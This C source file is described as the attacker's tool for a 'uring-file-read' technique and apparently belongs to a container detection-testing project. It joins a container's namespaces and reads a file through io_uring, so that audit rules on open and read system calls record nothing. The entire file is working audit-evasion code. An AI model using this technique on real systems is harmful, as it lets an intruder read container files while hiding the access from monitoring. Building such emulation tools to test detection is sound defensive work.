/*
 * uring-read: the attacker's tool for the uring-file-read technique. Reads
 * a file of a running container with io_uring instead of system calls: the
 * open and the read are IORING_OP_OPENAT and IORING_OP_READ submitted to a
 * ring, so no open(2), openat(2) or read(2) is made, and an audit rule on
 * those calls (a path watch included: it filters the syscall exit list)
 * records nothing. Only io_uring_setup(2) and io_uring_enter(2) are system
 * calls.
 *
 * 1. enters the container's namespaces with setns(2) (ipc, uts, net, pid,
 *    mnt), the caller having joined its cgroups already, so the kernel sees
 *    a process of the container;
 * 2. forks (a pid namespace applies to children); the child sets up a ring
 *    of 4 entries, opens the file through it, reads up to 64 KiB through it,
 *    writes what it read to stdout and stays a second;
 * 3. the parent waits and exits with the child's status.
 *
 * usage: uring-read <container pid> <file in the container>
 * Build: gcc -static -O2 -o uring-read uring-read.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "enter-container.h"

struct ring {
  int fd;
  unsigned *sq_tail, *sq_mask, *sq_array;
  unsigned *cq_head, *cq_tail, *cq_mask;
  struct io_uring_sqe *sqes;
  struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
  if (r->fd < 0) {
    fprintf(stderr, "uring-read: io_uring_setup: %s\n", strerror(errno));
    return -1;
  }
  size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
  if (p.features & IORING_FEAT_SINGLE_MMAP) sq_size = cq_size = sq_size > cq_size ? sq_size : cq_size;
  char *sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
  char *cq = (p.features & IORING_FEAT_SINGLE_MMAP) ? sq : mmap(NULL, cq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_CQ_RING);
  r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || r->sqes == MAP_FAILED) {
    fprintf(stderr, "uring-read: mmap of the ring: %s\n", strerror(errno));
    return -1;
  }
  r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
  r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
  r->sq_array = (unsigned *)(sq + p.sq_off.array);
  r->cq_head = (unsigned *)(cq + p.cq_off.head);
  r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
  r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
  r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
  return 0;
}

/* Submits one entry, waits for its completion; its result (a file descriptor, a byte count, or -errno). */
static int ring_do(struct ring *r, const struct io_uring_sqe *entry) {
  unsigned tail = *r->sq_tail;
  unsigned index = tail & *r->sq_mask;
  r->sqes[index] = *entry;
  r->sq_array[index] = index;
  __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
  if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
  unsigned head = *r->cq_head;
  if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
  int res = r->cqes[head & *r->cq_mask].res;
  __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
  return res;
}

static int read_through_ring(const char *path) {
  struct ring r;
  if (ring_setup(&r) != 0) return 1;
  struct io_uring_sqe open_entry;
  memset(&open_entry, 0, sizeof open_entry);
  open_entry.opcode = IORING_OP_OPENAT;
  open_entry.fd = AT_FDCWD;
  open_entry.addr = (unsigned long)path;
  open_entry.open_flags = O_RDONLY;
  int fd = ring_do(&r, &open_entry);
  if (fd < 0) {
    fprintf(stderr, "uring-read: IORING_OP_OPENAT %s: %s\n", path, strerror(-fd));
    return 1;
  }
  static char buf[1 << 16];
  struct io_uring_sqe read_entry;
  memset(&read_entry, 0, sizeof read_entry);
  read_entry.opcode = IORING_OP_READ;
  read_entry.fd = fd;
  read_entry.addr = (unsigned long)buf;
  read_entry.len = sizeof buf;
  int n = ring_do(&r, &read_entry);
  if (n < 0) {
    fprintf(stderr, "uring-read: IORING_OP_READ %s: %s\n", path, strerror(-n));
    return 1;
  }
  if (write(1, buf, (size_t)n) != n) return 1;
  /*
   * A reader stays a moment, as one that sends what it read would. One that
   * exits within a millisecond of io_uring_setup, its parent gone too, is
   * gone before the audit daemon can place it in a container (docs/audit.md,
   * the same limit as for a memory file's payload).
   */
  sleep(1);
  return 0;
}

static int run(void *path) { return read_through_ring((const char *)path); }

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: uring-read <container pid> <file in the container>\n");
    return 2;
  }
  if (enter_container("uring-read", argv[1]) != 0) return 1;
  return in_child("uring-read", run, argv[2]);
}
